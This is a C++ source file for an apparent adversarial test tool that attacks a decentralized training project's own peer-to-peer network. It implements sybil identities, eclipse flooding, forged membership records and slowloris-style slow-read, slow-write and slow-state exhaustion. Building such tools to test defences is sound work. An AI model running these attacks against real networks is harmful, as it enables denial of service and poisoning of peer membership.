// The network-level attacks (peer_attack.h). One io_context on the caller's thread; every
// hostile act is a few lines on top of the real Host and the real wire encoders.
#include "tools/attacker/peer_attack.h"

#include <asio/io_context.hpp>
#include <asio/steady_timer.hpp>

#include <nlohmann/json.hpp>

#include <algorithm>
#include <cstdio>
#include <map>
#include <memory>
#include <random>

#include "common/clock.h"
#include "common/log.h"
#include "p2p/framing.h"
#include "p2p/host.h"
#include "p2p/membership.h"
#include "p2p/multiaddr.h"
#include "trainer/node/exchange_wire.h"
#include "trainer/node/state_wire.h"

namespace noloco::attacker {
namespace {

using Stream = std::shared_ptr<p2p::HostStream>;
constexpr auto kTick = std::chrono::milliseconds(500);

uint64_t unix_ms() {
  return std::chrono::duration_cast<std::chrono::milliseconds>(std::chrono::system_clock::now().time_since_epoch())
      .count();
}

std::optional<p2p::Multiaddr> dial_addr(const p2p::PeerRecord& rec) {
  for (const auto& text : rec.addrs)
    if (auto a = p2p::Multiaddr::parse(text); a.ok()) return a->with_peer_id(rec.peer);
  return std::nullopt;
}

class PeerAttack : public std::enable_shared_from_this<PeerAttack> {
 public:
  PeerAttack(const PeerAttackOptions& o, const std::atomic<bool>& stop, const std::function<void(const std::string&)>& emit)
      : o_(o), stop_(stop), emit_(emit), rng_(o.seed), timer_(io_), epoch_(unix_ms()),
        view_(o.identity, o.run_id, epoch_, p2p::MembershipOptions{}, clock_) {}

  Status start();
  void run() { io_.run(); }

 private:
  struct Persona {  // a sybil identity with its own host on our address
    std::shared_ptr<p2p::Host> host;
    std::string addr;
  };

  Result<std::shared_ptr<p2p::Host>> make_host(const p2p::Identity& id, std::string* bound, bool any_port = false);
  void serve(const std::shared_ptr<p2p::Host>& host);
  void tick();
  uint64_t swarm_outer() const;
  std::vector<p2p::SignedPeerRecord> gossip_records();
  void gossip_with(const p2p::Multiaddr& to);
  void gossip_as_sybil(const Persona& p, const p2p::Multiaddr& to);
  void on_gossip(Stream s);
  void on_exchange(Stream s);
  void on_state(Stream s);
  void trickle(Stream s, Bytes prefix);
  void slow_read_state(const p2p::Multiaddr& to);
  void slow_write_exchange(const p2p::Multiaddr& to);

  PeerAttackOptions o_;
  const std::atomic<bool>& stop_;
  std::function<void(const std::string&)> emit_;
  std::mt19937_64 rng_;
  asio::io_context io_;
  asio::steady_timer timer_;
  SteadyClock clock_;
  uint64_t epoch_, heartbeat_ = 0, ticks_ = 0;
  p2p::MembershipView view_;  // the honest peers we learn of
  std::shared_ptr<p2p::Host> host_;
  std::string addr_;
  std::vector<p2p::Identity> fakes_;  // eclipse-flood, forged-membership
  std::vector<Persona> sybils_;
  std::map<p2p::PeerId, int> held_;   // slow-reader / slow-writer: streams held open per peer
  std::vector<Stream> keep_;          // streams we never read (their data waits in the peer's buffers)
};

// Listens on --listen, or (`any_port`: the sybils) on the same IP at any free port.
Result<std::shared_ptr<p2p::Host>> PeerAttack::make_host(const p2p::Identity& id, std::string* bound, bool any_port) {
  NOLOCO_ASSIGN_OR_RETURN(auto host, p2p::Host::create(io_, id, o_.host));
  std::string text = o_.listen;
  if (const auto at = text.rfind("/tcp/"); any_port && at != std::string::npos) text = text.substr(0, at) + "/tcp/0";
  NOLOCO_ASSIGN_OR_RETURN(auto listen, p2p::Multiaddr::parse(text));
  NOLOCO_ASSIGN_OR_RETURN(auto addr, host->listen(listen));
  *bound = addr.without_peer_id().to_string();
  serve(host);
  return host;
}

void PeerAttack::serve(const std::shared_ptr<p2p::Host>& host) {
  std::weak_ptr<PeerAttack> weak = weak_from_this();
  auto bind = [weak](void (PeerAttack::*fn)(Stream)) {
    return [weak, fn](Stream s) {
      if (auto self = weak.lock()) ((*self).*fn)(std::move(s));
    };
  };
  host->set_handler(std::string(p2p::kMembershipProtocolId), bind(&PeerAttack::on_gossip));
  host->set_handler(std::string(node::kExchangeProtocolId), bind(&PeerAttack::on_exchange));
  host->set_handler(std::string(node::kStateProtocolId), bind(&PeerAttack::on_state));
}

Status PeerAttack::start() {
  NOLOCO_ASSIGN_OR_RETURN(host_, make_host(o_.identity, &addr_));
  if (!o_.announce.empty()) addr_ = o_.announce;
  nlohmann::json ids = nlohmann::json::array();
  ids.push_back(o_.identity.peer_id().to_string());
  if (o_.attack == "sybil") {
    for (int i = 0; i < o_.sybils; ++i) {
      NOLOCO_ASSIGN_OR_RETURN(auto id, p2p::Identity::generate());
      Persona p;
      NOLOCO_ASSIGN_OR_RETURN(p.host, make_host(id, &p.addr, true));
      ids.push_back(id.peer_id().to_string());
      sybils_.push_back(std::move(p));
    }
  }
  if (o_.attack == "eclipse-flood" || o_.attack == "forged-membership") {
    const int n = o_.attack == "eclipse-flood" ? o_.fakes : 16;
    for (int i = 0; i < n; ++i) {
      NOLOCO_ASSIGN_OR_RETURN(auto id, p2p::Identity::generate());
      fakes_.push_back(std::move(id));
    }
  }
  emit_(addr_ + "/p2p/" + o_.identity.peer_id().to_string());
  emit_(nlohmann::json{{"event", "start"}, {"peer", o_.identity.peer_id().to_string()}, {"attack", o_.attack},
                       {"run_id", o_.run_id}, {"inner_step", 0}, {"outer_step", 0}, {"val_loss", 0.0}}
            .dump());
  emit_(nlohmann::json{{"event", "attacker"}, {"attack", o_.attack}, {"peers", ids}}.dump());
  tick();
  return Status::Ok();
}

uint64_t PeerAttack::swarm_outer() const {
  uint64_t m = 0;
  for (const auto& r : view_.live_peers()) m = std::max(m, r.outer_step);
  return m;
}

// Our own record (valid) plus the attack's extra records.
std::vector<p2p::SignedPeerRecord> PeerAttack::gossip_records() {
  std::vector<p2p::SignedPeerRecord> out;
  const uint64_t outer = swarm_outer() + (o_.attack == "slow-state" ? o_.ahead : 0);
  auto record = [&](const p2p::PeerId& id, std::string addr, uint64_t ep) {
    p2p::PeerRecord r;
    r.peer = id;
    r.addrs = {std::move(addr)};
    r.run_id = o_.run_id;
    r.epoch = ep;
    r.heartbeat = heartbeat_;
    r.outer_step = outer;
    r.tokens_per_sec = 5000;
    return r;
  };
  out.push_back(p2p::sign_peer_record(record(o_.identity.peer_id(), addr_, epoch_), o_.identity));
  if (o_.attack == "sybil") {
    for (const auto& p : sybils_) out.push_back(p2p::sign_peer_record(record(p.host->peer_id(), p.addr, epoch_), p.host->identity()));
  } else if (o_.attack == "eclipse-flood") {
    // Validly signed records of identities nobody runs, at addresses where nothing listens.
    for (size_t i = 0; i < fakes_.size(); ++i)
      out.push_back(p2p::sign_peer_record(
          record(fakes_[i].peer_id(), "/ip4/127.0.3." + std::to_string(1 + i % 250) + "/tcp/" + std::to_string(20000 + i), epoch_),
          fakes_[i]));
  } else if (o_.attack == "forged-membership") {
    // Honest peers' records re-pointed at us (newer heartbeat), and records of other identities,
    // all with signatures that do not verify.
    std::uniform_int_distribution<int> byte(0, 255);
    auto forge = [&](p2p::PeerRecord r) {
      p2p::SignedPeerRecord s{std::move(r), Bytes(64)};
      for (auto& b : s.signature) b = static_cast<uint8_t>(byte(rng_));
      out.push_back(std::move(s));
    };
    for (auto r : view_.live_peers()) {
      r.addrs = {addr_};
      r.heartbeat += 1000000;
      forge(std::move(r));
    }
    for (const auto& f : fakes_) forge(record(f.peer_id(), addr_, epoch_));
  }
  if (out.size() > p2p::kMaxRecordsPerMessage) out.resize(p2p::kMaxRecordsPerMessage);
  return out;
}

void PeerAttack::tick() {
  if (stop_.load()) {
    host_->close();
    for (auto& p : sybils_) p.host->close();
    keep_.clear();
    io_.stop();
    return;
  }
  ++ticks_;
  ++heartbeat_;
  view_.expire();
  // Flood: every known honest peer each tick (an honest node gossips with one), and the
  // bootstrap addresses until we know someone.
  std::vector<p2p::Multiaddr> targets;
  const auto live = view_.live_peers();
  for (const auto& r : live)
    if (auto a = dial_addr(r)) targets.push_back(*a);
  if (live.empty() || ticks_ % 10 == 1)
    for (const auto& j : o_.join)
      if (auto a = p2p::Multiaddr::parse(j); a.ok()) targets.push_back(*a);
  for (const auto& t : targets) {
    gossip_with(t);
    // Each sybil also gossips its own record from its own host, as a real node would (so that
    // the honest node holds it as verified, not hearsay): every identity dials in from our one
    // address, which the honest host's per-address limit counts (docs/defences.md).
    for (const auto& p : sybils_) gossip_as_sybil(p, t);
    if (o_.attack == "slow-reader") slow_read_state(t);
    if (o_.attack == "slow-writer") slow_write_exchange(t);
  }
  timer_.expires_after(kTick);
  std::weak_ptr<PeerAttack> weak = weak_from_this();
  timer_.async_wait([weak](const asio::error_code& ec) {
    if (auto self = weak.lock(); self && !ec) self->tick();
  });
}

void PeerAttack::gossip_with(const p2p::Multiaddr& to) {
  std::weak_ptr<PeerAttack> weak = weak_from_this();
  Bytes msg = p2p::encode_gossip(gossip_records());
  host_->new_stream(to, {std::string(p2p::kMembershipProtocolId)}, [weak, msg](Result<Stream> r) {
    auto self = weak.lock();
    if (!self || !r.ok()) return;
    Stream s = *r;
    s->write(p2p::encode_length_prefixed(msg));
    s->close_write();
    s->read_message(
        [weak, s](Result<Bytes> m) {
          if (auto self = weak.lock(); self && m.ok()) (void)self->view_.on_gossip(*m);
        },
        p2p::kMaxGossipMessageBytes);
  });
}

void PeerAttack::gossip_as_sybil(const Persona& p, const p2p::Multiaddr& to) {
  p2p::PeerRecord r;
  r.peer = p.host->peer_id();
  r.addrs = {p.addr};
  r.run_id = o_.run_id;
  r.epoch = epoch_;
  r.heartbeat = heartbeat_;
  r.outer_step = swarm_outer();
  r.tokens_per_sec = 5000;
  Bytes msg = p2p::encode_gossip({p2p::sign_peer_record(r, p.host->identity())});
  p.host->new_stream(to, {std::string(p2p::kMembershipProtocolId)}, [msg](Result<Stream> res) {
    if (!res.ok()) return;
    Stream s = *res;
    s->write(p2p::encode_length_prefixed(msg));
    s->close_write();
    s->read_message([s](Result<Bytes>) {}, p2p::kMaxGossipMessageBytes);  // the answer is not needed
  });
}

void PeerAttack::on_gossip(Stream s) {
  std::weak_ptr<PeerAttack> weak = weak_from_this();
  s->read_message(
      [weak, s](Result<Bytes> m) {
        auto self = weak.lock();
        if (!self || !m.ok()) return s->reset();
        (void)self->view_.on_gossip(*m);
        s->write(p2p::encode_length_prefixed(p2p::encode_gossip(self->gossip_records())));
        s->close_write();
      },
      p2p::kMaxGossipMessageBytes);
}

// Writes `prefix`, then one more byte of nothing useful every second, for as long as the peer
// keeps the stream open: a writer that never finishes.
void PeerAttack::trickle(Stream s, Bytes prefix) {
  s->write(std::move(prefix));
  auto timer = std::make_shared<asio::steady_timer>(io_);
  auto step = std::make_shared<std::function<void()>>();
  std::weak_ptr<PeerAttack> weak = weak_from_this();
  *step = [weak, s, timer, step] {
    auto self = weak.lock();
    if (!self || self->stop_.load()) return;
    timer->expires_after(std::chrono::seconds(1));
    timer->async_wait([weak, s, step](const asio::error_code& ec) {
      if (ec) return;
      s->write(Bytes{0x20}, [step](Status st) {
        if (st.ok()) (*step)();
        else *step = nullptr;  // the peer gave up: let the closure go
      });
    });
  };
  (*step)();
}

// Called for an exchange: sybils refuse at once (each wastes one of the caller's tries); the
// slow writer answers a header frame of 16000 bytes one byte a second; the others hang up.
void PeerAttack::on_exchange(Stream s) {
  if (o_.attack == "slow-writer") return trickle(s, Bytes{0x80, 0x7d});  // uvarint 16000
  if (o_.attack == "sybil") {
    s->write(node::encode_payload(node::make_error_payload("no snapshot yet")));
    s->close_write();
    keep_.push_back(s);
    return;
  }
  s->reset();
}

// Asked for state: the slow-state server starts a response frame of 1 MiB and sends it a byte a
// second; the others hang up.
void PeerAttack::on_state(Stream s) {
  if (o_.attack == "slow-state") return trickle(s, Bytes{0x80, 0x80, 0x40});  // uvarint 1 MiB
  s->reset();
}

// Opens a state stream to `to`, asks for the first chunk eight times and never reads an answer:
// each answer (up to 1 MiB) waits in the peer's send buffer. At most 16 such streams per peer.
void PeerAttack::slow_read_state(const p2p::Multiaddr& to) {
  if (!to.peer_id() || held_[*to.peer_id()] >= 16) return;
  ++held_[*to.peer_id()];
  std::weak_ptr<PeerAttack> weak = weak_from_this();
  host_->new_stream(to, {std::string(node::kStateProtocolId)}, [weak](Result<Stream> r) {
    auto self = weak.lock();
    if (!self || !r.ok()) return;
    node::StateRequest req;
    req.run_id = self->o_.run_id;
    Bytes one = p2p::encode_length_prefixed(node::encode_state_request(req));
    Bytes all;
    for (int i = 0; i < 8; ++i) all.insert(all.end(), one.begin(), one.end());
    (*r)->write(std::move(all));
    self->keep_.push_back(*r);
  });
}

// Calls `to` for an exchange and sends our "payload" a byte a second. At most 4 such calls per peer.
void PeerAttack::slow_write_exchange(const p2p::Multiaddr& to) {
  if (!to.peer_id() || held_[*to.peer_id()] >= 4) return;
  ++held_[*to.peer_id()];
  std::weak_ptr<PeerAttack> weak = weak_from_this();
  host_->new_stream(to, {std::string(node::kExchangeProtocolId)}, [weak](Result<Stream> r) {
    auto self = weak.lock();
    if (!self || !r.ok()) return;
    self->keep_.push_back(*r);
    self->trickle(*r, Bytes{0x80, 0x7d});
  });
}

}  // namespace

bool is_peer_attack(const std::string& a) {
  return a == "forged-membership" || a == "eclipse-flood" || a == "sybil" || a == "slow-reader" ||
         a == "slow-writer" || a == "slow-state";
}

int run_peer_attack(const PeerAttackOptions& o, const std::atomic<bool>& stop,
                    const std::function<void(const std::string&)>& emit) {
  auto a = std::make_shared<PeerAttack>(o, stop, emit);
  if (Status st = a->start(); !st.ok()) {
    std::fprintf(stderr, "attacker: %s\n", st.to_string().c_str());
    return 1;
  }
  a->run();
  return 0;
}

}  // namespace noloco::attacker
